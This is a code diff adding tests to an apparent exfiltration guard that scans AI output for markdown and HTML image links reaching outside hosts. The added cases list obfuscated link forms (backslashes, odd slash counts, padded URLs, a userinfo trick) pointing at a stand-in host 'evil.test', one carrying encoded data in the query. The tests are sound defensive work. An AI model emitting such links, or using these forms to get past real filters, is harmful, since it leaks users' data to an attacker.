@@ -203,3 +203,46 @@ def test_allowed_hosts_written_as_urls_are_read_as_their_hosts(run_guard: Any) -
         assert scan_("![x](https://evil.example/p.png)", "output"), entry
     with pytest.raises(PolicyError, match=r"guards\.exfiltration\.allowed_hosts: 'https://'"):
         Policy(guards={"exfiltration": {"allowed_hosts": ["https://"]}})
+
+
+@pytest.mark.parametrize(
+    "output",
+    [
+        "![x](https:\\\\evil.test\\p.png)",
+        "[x](https:/\\evil.test/?d=c2VjcmV0c2VjcmV0c2VjcmV0)",
+        "![x](https:evil.test/p.png)",  # no slash: evil.test on an http page
+        "![x](HTTPS:////evil.test/p.png)",
+        "![x](/\\evil.test/p.png)",
+        "![x](< https://evil.test/p.png>)",  # spaces around a URL are dropped
+        "![x](\\/\\/evil.test/p.png)",  # markdown reads //evil.test
+        '<img src="https:\\\\evil.test\\p.png">',
+        '<img src=" https://evil.test/p.png">',
+        "![a]\n\n[a]: https:\\\\evil.test\\p.png",
+    ],
+)
+def test_destinations_are_read_as_a_browser_reads_them(run_guard: Any, output: str) -> None:
+    """WHATWG URL parsing: a backslash is a slash in an http(s) URL, and any number of
+    slashes may follow the scheme."""
+    (found,) = run_guard("exfiltration")(output, "output")
+    assert "(evil.test)" in found.message, found.message
+
+
+def test_the_allow_list_is_checked_against_the_host_a_browser_reads(run_guard: Any) -> None:
+    scan_ = run_guard("exfiltration", allowed_hosts=["acme.example"])
+    assert scan_("![x](https:\\\\cdn.acme.example\\p.png)", "output") == []
+    assert scan_("![x](https:///acme.example/p.png)", "output") == []
+    # markdown undoes the escape: https://acme.example@evil.test/p.png loads from evil.test
+    (found,) = scan_("![x](https://acme.example\\@evil.test/p.png)", "output")
+    assert "(evil.test)" in found.message
+
+
+@pytest.mark.parametrize(
+    "output",
+    [
+        "![x](\\evil.test/p.png)",  # one backslash: a path on the page's own host
+        "[notes](C:\\Users\\me\\notes.md)",
+        "![x](https:/)",
+    ],
+)
+def test_destinations_a_browser_reads_as_no_outside_host(run_guard: Any, output: str) -> None:
+    assert run_guard("exfiltration")(output, "output") == []
